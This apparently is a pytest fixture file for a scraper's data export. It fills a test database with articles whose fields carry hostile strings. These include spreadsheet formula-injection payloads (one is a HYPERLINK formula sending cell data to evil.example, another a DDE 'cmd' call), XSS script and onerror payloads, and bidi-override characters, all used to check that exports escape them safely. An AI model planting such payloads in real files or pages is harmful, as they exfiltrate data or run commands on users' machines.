"""Databases to export: a small one, whose texts come from someone who means harm."""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from bodspider.dataset import Request, export
from bodspider.items import Article, Evidence, Link
from bodspider.store import Record, Store

TIME = datetime(2021, 5, 5, 6, 7, 8, tzinfo=UTC)
HOSTILE = (
    '=HYPERLINK("https://evil.example/?"&A1,"klik")',
    "+32 2 501 81 11",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\n=1+1",
    "\r\n=1+1",
    " \u00a0\u3000=1+1",
    "＝1+1",
    " ＋1",
    "\u200f=1+1",
    "\ufeff=1+1",
    "'s Avonds",
    "''=1+1",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "שלום \u200fעולם\u200e \u202eabc\u202c",
    "🇧🇪 👩‍👩‍👧 é e\u0301",
    'a","=1+1","b',
    "a;=1+1\tb\nc\r\nd",
    "| a | b |\\",
    "[x](javascript:alert(1)) **b** `c`",
    "null",
    "nan",
    "NULL",
    "[]",
)
LANGUAGES = ("nl", "fr", None)


def article(number: int, title: str, **values: Any) -> Article:
    url = f"https://site.example/{number}"
    published = TIME - timedelta(days=number)
    return Article(
        **{
            "id": f"id{number:03}",
            "story": f"story{number // 2}",
            "url": url,
            "language": LANGUAGES[number % 3],
            "translations": {"fr": url, "nl": f"{url}/nl"},
            "title": title,
            "summary": title,
            "body": title,
            "author": title,
            "tags": [title, "water"],
            "images": [Link(url=f"{url}.png", text=title)],
            "links": [Link(url=url, text=None)],
            "published": published,
            "published_earliest": published,
            "published_latest": published + timedelta(hours=1),
            "published_precision": "hour",
            "published_evidence": [Evidence(source="listing", raw=title, earliest=published, latest=None)],
            "listing": "https://site.example/list",
            "listing_title": HOSTILE[14] + HOSTILE[19],
            "fetched": TIME,
            "status": 200,
            "content_hash": f"{number:064x}",
            **values,
        }
    )


ARTICLES = [article(number, title) for number, title in enumerate(HOSTILE)]
UNDATED = article(
    90,
    "Zonder datum",
    published=None,
    published_earliest=None,
    published_latest=None,
    published_precision=None,
    published_evidence=[],
    tags=[],
    translations={},
    url=None,
    fetched=None,
    status=None,
    summary=None,
    body=None,
    error="no-link",
)
ALL = [*ARTICLES, UNDATED]


def write(store: Store, *articles: Article, name: str = "first") -> int:
    run = store.begin_run(name, started=TIME, mode="full", arguments={})
    store.write([Record(article=each, url=each.url) for each in articles], run=run, now=TIME)
    store.end_run(run, verdict="good", reasons=[], balance={})
    return run


@pytest.fixture(scope="session")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> str:
    """Return the address of a database with `ALL`; no test changes it."""
    address = f"sqlite:///{tmp_path_factory.mktemp('hostile')}/bod.db"
    store = Store.open(address)
    write(store, *ALL)
    store.close()
    return address


@pytest.fixture(scope="session")
def exported(hostile: str, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return an export of `hostile` in every format; no test changes it."""
    folder = tmp_path_factory.mktemp("exported") / "out"
    store = Store.open(hostile)
    export(store, Request(folder=folder, formats=("parquet", "csv", "jsonl", "sqlite")))
    store.close()
    return folder


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    """Return an empty database that a test may fill."""
    opened = Store.open(f"sqlite:///{tmp_path}/db/bod.db")
    yield opened
    opened.close()
